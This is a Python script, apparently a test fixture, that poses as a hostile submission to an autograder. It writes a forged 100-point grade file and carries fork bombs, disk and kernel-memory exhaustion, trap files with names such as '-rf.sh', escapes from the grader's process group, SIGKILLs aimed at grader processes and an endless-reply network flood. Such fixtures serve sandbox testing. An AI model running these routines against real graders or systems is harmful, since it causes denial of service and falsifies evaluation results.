"""A hostile submission: attack.py NAME PORT [TARGET]. It attacks, prints what came of it, and then
listens as a server does."""

import ctypes
import os
import re
import resource
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path


def read(target):
    return Path(target).read_text()


def write(target):
    """Better grades for itself."""
    Path(target).parent.mkdir(parents=True, exist_ok=True)
    Path(target).write_text('{"points": 100}')
    return "written"


def fork(_):
    """Each process forks again. For the machine of the tests there are 512 at most, and each ends
    after a while."""
    for _ in range(9):
        try:
            if os.fork() == 0:
                signal.alarm(20)
        except OSError:
            pass
    time.sleep(20)


def fill(folders):
    """A disk, or the memory, with files of which none is large."""
    nth = 0
    while True:
        for folder in folders.split(","):
            nth += 1
            Path(folder, str(nth)).write_bytes(b"x" * (1 << 20))
            time.sleep(0.005)  # the limit that is seen first should not depend on the machine


def memfd(_):
    """Memory that no process maps: files without a name."""
    held = []
    while True:
        held.append(os.memfd_create("x"))
        os.write(held[-1], b"x" * (8 << 20))


def in_flight(_):
    """The same, in no process's list of open files: on their way through a socket."""
    sender, receiver = socket.socketpair(socket.AF_UNIX)
    for _ in range(60):
        one = os.memfd_create("x")
        for _ in range(8):
            os.write(one, b"x" * (8 << 20))
        socket.send_fds(sender, [b"x"], [one])
        os.close(one)
    time.sleep(20)
    return receiver


def sockets(_):
    """What has been sent and is not read."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held = []
    while True:
        held += socket.socketpair(socket.AF_UNIX)
        for one in held[-2:]:
            one.setblocking(False)
            try:
                while True:
                    one.send(b"x" * (1 << 16))
            except BlockingIOError:
                pass


def segments(_):
    """Shared memory of System V, written and then detached."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    while True:
        number = libc.shmget(0, ctypes.c_size_t(8 << 20), 0o1600)
        if number < 0:
            raise OSError(ctypes.get_errno(), "shmget")
        place = ctypes.c_void_p(libc.shmat(number, None, 0))
        ctypes.memset(place, 1, 8 << 20)
        libc.shmdt(place)


def semaphores(_):
    """Each takes memory of the kernel, and a set has thousands."""
    libc = ctypes.CDLL(None, use_errno=True)
    while libc.semget(0, 30000, 0o1600) >= 0:
        pass
    raise OSError(ctypes.get_errno(), "semget")


def unnamed(folder):
    """A disk, with a file that no folder has."""
    with open(Path(folder, "x"), "wb") as file:
        os.unlink(file.name)
        while True:
            file.write(b"x" * (1 << 20))
            file.flush()
            time.sleep(0.005)


def closed(folder):
    """A disk, in a folder whose rights keep others from looking."""
    nth = 0
    Path(folder, "x").mkdir()
    while True:
        nth += 1
        os.chmod(Path(folder, "x"), 0o700)
        Path(folder, "x", str(nth)).write_bytes(b"x" * (1 << 20))
        os.chmod(Path(folder, "x"), 0)
        time.sleep(0.02)


def litter(folder):
    """What a disk has for names: files without content."""
    nth = 0
    while True:
        nth += 1
        Path(folder, str(nth)).touch()


def pipes(_):
    """Files that the grader reads, as pipes and devices that have no end."""
    for name in ("Makefile", "configure", "x.sh", "line\nbreak.sh", "-rf.sh"):
        os.mkfifo(name)
    os.symlink("/dev/zero", "y.sh")
    sys.exit("left pipes")


def dig(folder):
    """Folders so deep that their files have no path, and the disk is filled there."""
    os.chdir(folder)
    for _ in range(1100):
        os.mkdir("deep")
        os.chdir("deep")
    return "dug"


def outlive(mark):
    """The grader's look at its process group and its children: by two forks and a session of its
    own."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            subprocess.Popen(["sleep", "600.0" + mark], start_new_session=True)
        os._exit(0)
    os.wait()
    return "left"


def kill(mark):
    """All processes of the grader: those whose command line names its folder."""
    killed = 0
    for entry in Path("/proc").iterdir():
        pid = entry.name
        if pid.isdigit() and int(pid) != os.getpid() and b"grade.py" in _command_line(entry):
            if mark.encode() in _command_line(entry):
                os.kill(int(pid), signal.SIGKILL)
                killed += 1
    if not killed:
        raise ProcessLookupError("the grader is not seen")
    return "killed"


def _command_line(process):
    try:
        return (process / "cmdline").read_bytes()
    except OSError:
        return b""


def connect(target):
    host, _, port = target.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=3):
        return "connected"


def serve_accounts(connection):
    with connection:
        while connection.recv(1 << 16):
            connection.sendall(b"<results><created/></results>")


ACCOUNT = r'<account id="(\d+)"'


def flood(_):
    """The load generator: orders get a reply that has no end, on all connections."""
    return "floods"


def serve_flood(connection):
    request = ""
    try:
        while "<transactions" not in request:
            request = connection.recv(1 << 16).decode()
            if not request:
                return
            while not re.search(r"</(create|transactions)>", request):
                request += connection.recv(1 << 16).decode()
            created = [f'<created id="{one}"/>' for one in re.findall(ACCOUNT, request)]
            if created:
                connection.sendall(f"<results>{''.join(created)}</results>".encode())
        connection.sendall(b"<results>")
        while True:
            connection.sendall(b"<canceled shares='1' time='1'/>" * 4096)
    except OSError:
        pass
    finally:
        connection.close()


def main():
    name, port, target = sys.argv[1], int(sys.argv[2]), "".join(sys.argv[3:])
    try:
        print(f"{name}: {globals()[name](target)}", flush=True)
    except OSError as error:
        print(f"{name} failed: {error!r}", flush=True)
    serve = serve_flood if name == "flood" else serve_accounts
    with socket.create_server(("127.0.0.1", port)) as listener:
        while True:
            connection = listener.accept()[0]
            threading.Thread(target=serve, args=[connection], daemon=True).start()


if __name__ == "__main__":
    main()
